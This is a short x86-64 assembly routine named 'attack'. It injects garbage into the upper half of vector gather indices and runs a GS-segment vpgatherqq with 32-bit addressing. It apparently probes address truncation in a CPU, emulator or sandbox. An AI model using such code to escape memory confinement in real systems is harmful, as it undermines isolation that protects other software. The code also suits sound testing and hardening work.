function attack
    movq $0x666,%gs:(%edi)
    # Each index has garbage in its upper half.
    mov $0x5ec2e75e00000000,%rax
    or %rax,%rdi
    vpbroadcastq %rdi,%zmm2
    kxnorw %k0,%k0,%k1
    xor %eax,%eax
    vpgatherqq %gs:(%eax,%zmm2,1),%zmm0{%k1}
    vmovq %xmm0,%rax
    ret
